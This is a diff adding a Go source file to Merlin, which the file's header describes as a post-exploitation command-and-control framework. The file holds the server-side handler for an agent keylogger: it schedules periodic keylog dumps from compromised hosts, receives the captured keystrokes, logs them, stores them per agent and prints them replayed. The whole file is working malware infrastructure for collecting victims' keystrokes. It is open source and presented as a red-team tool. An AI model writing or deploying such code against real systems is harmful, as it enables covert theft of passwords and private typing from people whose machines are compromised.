@@ -0,0 +1,105 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agents
+
+import (
+	// Standard
+	"fmt"
+	"time"
+
+	// 3rd Party
+	"github.com/fatih/color"
+	"github.com/satori/go.uuid"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/api"
+	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/events"
+	"github.com/Ne0nd0g/merlin/pkg/keylog"
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// KeylogDumps queues a job that dumps the agent's keylogger every interval until it is stopped with an interval of zero
+func KeylogDumps(agentID uuid.UUID, interval time.Duration) error {
+	return repeatJob(agentID, "keylog", []string{"dump"}, interval, false)
+}
+
+// KeylogDumping returns the interval the agent's keylogger is dumped at or zero if it is not dumped periodically
+func KeylogDumping(agentID uuid.UUID) time.Duration {
+	return repeating(agentID, "keylog")
+}
+
+// Keylog handles the keystrokes returned by an agent's keylogger and stores them in the agent's keylog file
+func Keylog(m messages.Base) error {
+	if core.Debug {
+		message("debug", "Entering into agents.Keylog")
+	}
+
+	// Check to make sure it is a known agent
+	if !isAgent(m.ID) {
+		return api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID)
+	}
+
+	p := m.Payload.(messages.Keylog)
+	delete(Agents[m.ID].sent, p.Job)
+	var keys int
+	for _, k := range p.Keystrokes {
+		keys += len(k.Keys)
+	}
+	publish(events.Job, m.ID, fmt.Sprintf("Job %s returned %d bytes of keystrokes from keylog %s", p.Job, keys, p.Command))
+	Log(m.ID, fmt.Sprintf("Results for job: %s", p.Job))
+
+	fmt.Println()
+	message("success", fmt.Sprintf("Results for job %s at %s", p.Job, time.Now().UTC().Format(time.RFC3339)))
+	fmt.Println()
+
+	if len(p.Stderr) > 0 {
+		Log(m.ID, fmt.Sprintf("keylog %s error:\r\n%s", p.Command, p.Stderr))
+		color.Red(p.Stderr)
+	}
+	if !p.Running && KeylogDumping(m.ID) > 0 {
+		_ = KeylogDumps(m.ID, 0)
+		Log(m.ID, "Stopped dumping the keylogger because it is not running")
+	}
+	if len(p.Keystrokes) > 0 {
+		Log(m.ID, fmt.Sprintf("Keystrokes:\r\n%s", keylog.Replay(p.Keystrokes, true)))
+		if !Agents[m.ID].simulated {
+			if err := keylog.Append(m.ID, p.Keystrokes); err != nil {
+				message("warn", err.Error())
+			}
+		}
+		color.Green(keylog.Replay(p.Keystrokes, false))
+		fmt.Println()
+	}
+	if p.Dropped > 0 {
+		message("warn", fmt.Sprintf("The agent's keylog buffer was full and dropped the %d oldest keys; dump it more often", p.Dropped))
+	}
+
+	state := "stopped"
+	if p.Running {
+		state = "running"
+	}
+	message("info", fmt.Sprintf("The keylogger is %s and returned %d keys from %d windows; use 'keylog replay' to see every keystroke stored for the agent",
+		state, keys, len(p.Keystrokes)))
+
+	if core.Debug {
+		message("debug", "Leaving agents.Keylog")
+	}
+	fmt.Println()
+	return nil
+}